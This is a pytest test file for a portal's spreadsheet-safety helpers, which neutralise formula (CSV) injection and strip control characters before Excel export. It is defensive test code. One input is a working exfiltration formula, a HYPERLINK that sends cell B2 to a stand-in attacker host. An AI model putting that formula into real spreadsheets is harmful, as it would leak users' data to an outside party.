import io

import pytest

from portal.spreadsheets import plain_cell, safe_cell, safe_csv_writer


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?d="&B2,"Klik")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_text_starting_like_a_formula_is_prefixed(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [3.5, 12, None, "-6.8891", "+62", "-6,8891", "Jenggot", "", "a=b"]
)
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_csv_writer_writes_formulas_as_text():
    stream = io.StringIO()
    safe_csv_writer(stream, lineterminator="\n").writerow(["=1+1", 2, "Kauman"])
    assert stream.getvalue() == "'=1+1,2,Kauman\n"


@pytest.mark.parametrize("text", ["=1+1", "- Skor 1: belum ada", "@juri", "Jenggot", "'quoted'"])
def test_plain_cell_gives_back_what_safe_cell_protected(text):
    assert plain_cell(safe_cell(text)) == text


def test_control_characters_stored_before_forms_dropped_them_do_not_break_an_xlsx():
    """openpyxl refuses C0 control characters: a title saved with one (pasted, before
    the forms cleaned it) would fail every Excel export it appears in."""
    from openpyxl import Workbook

    sheet = Workbook().active
    sheet.append([safe_cell("Judul\x0bdengan\x1bkarakter\x00kontrol"), safe_cell("=\x01SUM(A1)")])
    assert [cell.value for cell in sheet[1]] == ["Juduldengankarakterkontrol", "'=SUM(A1)"]
